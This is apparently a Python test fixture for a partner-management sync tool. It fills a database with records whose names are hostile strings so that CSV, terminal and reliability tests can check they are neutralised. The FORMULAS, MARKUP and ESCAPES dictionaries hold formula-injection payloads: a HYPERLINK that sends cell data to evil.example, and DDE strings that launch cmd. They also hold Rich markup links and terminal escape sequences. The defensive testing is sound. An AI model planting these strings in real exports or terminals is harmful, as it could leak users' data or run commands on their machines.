"""A prm-sync directory whose store holds hostile names in every field the outputs show: spreadsheet
formulas, rich markup and terminal escape sequences (shared by the CSV, terminal and reliability tests)."""

from __future__ import annotations

import datetime as dt
import json
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

from prm_sync.cli.main import run
from prm_sync.store import Conflict, Contract, Deal, Partner, Quarantine, Registration, SyncRun, open_store

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+cmd|' /C notepad'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}
MARKUP = {"close-tag": "Acme [/x] Partners", "link": "[link=http://evil.example]Click me[/link]",
          "bold": "[bold red]Loud[/bold red] GmbH"}
ESCAPES = {"osc-title": "Title\x1b]0;pwned\x07 Co", "clear-screen": "Clear\x1b[2J\x1b[H Ltd",
           "osc8-link": "\x1b]8;;http://evil.example\x1b\\Link\x1b]8;;\x1b\\ AG", "bell-backspace": "Bell\x07\x08 SA"}
PLAN = {"plans": [{"name": "standard-2026", "currency": "USD", "effective": {"from": "2026-01-01"},
                   "tier_rates": {"registered": "5%", "silver": "8%", "gold": "10%", "platinum": "12%"}}]}
CLOSE = dt.date(2026, 8, 15)


@dataclass
class HostileSite:
    config: Path
    names: dict[str, str]

    def cli(self, *args: str) -> int:
        return run(["--config", str(self.config), *args])


def build_site(directory: Path, names: dict[str, str]) -> HostileSite:
    """`init` a store, then one partner per hostile name with a won deal, a registration, a contract,
    a conflict and a quarantined record carrying it; commissions calculated and approved."""
    assert run(["-q", "init", str(directory)]) == 0
    config = directory / "config.yaml"
    config.write_text(config.read_text() + "commissions: " + json.dumps(PLAN) + "\n")
    with open_store(f"sqlite:///{directory / 'prm.db'}") as store, store.session(write=True) as s:
        sync_run = SyncRun(status="failed")
        s.add(sync_run)
        s.flush()
        for index, (key, name) in enumerate(sorted(names.items())):
            partner = Partner(name=name, tier="gold", status="active", country="DE", channel_manager=name)
            s.add(partner)
            s.flush()
            s.add(Registration(partner_id=partner.id, company=name, status="submitted", currency="USD",
                               estimated_value=Decimal("100.00")))
            s.add(Deal(partner_id=partner.id, name=name, amount=Decimal("1000.00") + index, currency="USD",
                       stage="Closed Won", close_date=CLOSE, is_won=True, is_closed=True))
            s.add(Contract(partner_id=partner.id, starts_on=dt.date(2026, 1, 1), ends_on=dt.date(2026, 12, 31),
                           terms_url=name))
            s.add(Conflict(entity="partner", prm_id=partner.id, field="name", prm_value=name, crm_value=name,
                           base_value=key))
            s.add(Quarantine(run_id=sync_run.id, entity="partner", side="push", record_key=partner.id, kind="rejected",
                             reason=name))
    site = HostileSite(config, names)
    assert site.cli("-q", "commissions", "calculate", "--period", "2026-Q3") == 0
    return site
